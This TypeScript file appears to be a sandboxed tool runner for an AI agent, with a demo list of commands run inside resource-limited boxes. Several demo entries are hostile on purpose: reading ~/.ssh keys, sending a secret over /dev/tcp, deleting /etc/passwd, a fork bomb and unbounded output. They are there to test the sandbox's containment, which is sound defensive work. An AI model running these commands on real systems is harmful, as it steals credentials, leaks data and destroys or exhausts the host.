/** A tool runner for an agent: the model's commands run in one box, whose files stay between them, and each is answered by text for the model. */

import { type Box, sandbox } from 'coffer'

const WORKSPACE = '/srv/workspace'

/** What the model reads. Never throws for what a command did. */
async function runTool(box: Box, script: string): Promise<string> {
  const { verdict, exitCode, stdout, stderr } = await box.exec(['bash', '-c', script], {
    cwd: WORKSPACE,
    limits: { wallClockMs: 3000, outputBytes: 20_000 },
  })
  const text = `${stdout}${stderr}`.slice(0, 2000).trimEnd()
  if (verdict === 'ok') return text === '' ? '(no output)' : text
  return `${verdict === 'failed' ? `exit status ${exitCode}` : `ended: ${verdict}`}\n${text}`
}

const box = await sandbox({ root: 'host', cwd: '/', limits: { memory: '128MiB', pids: 32, diskBytes: '16MiB' } })
await box.files.makeDirectory(WORKSPACE)
await box.files.write(`${WORKSPACE}/notes.txt`, 'buy bread\n')

// Where home is, for the one that calls there.
const port = process.argv[2] ?? '443'
const calls = {
  'read a file': 'cat notes.txt',
  'write one': 'echo buy milk >>notes.txt',
  'see what was written': 'wc -l <notes.txt',
  'look for keys': 'cat ~/.ssh/*',
  'call home': `echo secret >/dev/tcp/127.0.0.1/${port}`,
  'change the system': 'rm /etc/passwd && ls /etc/passwd',
  'bomb with forks': 'bomb() { bomb | bomb & }; bomb; sleep 60',
  'print without end': 'yes',
  'still be there': 'tail -n 1 notes.txt',
}
for (const [name, script] of Object.entries(calls))
  console.log(`${name}: ${JSON.stringify(await runTool(box, script))}`)

await box.kill()
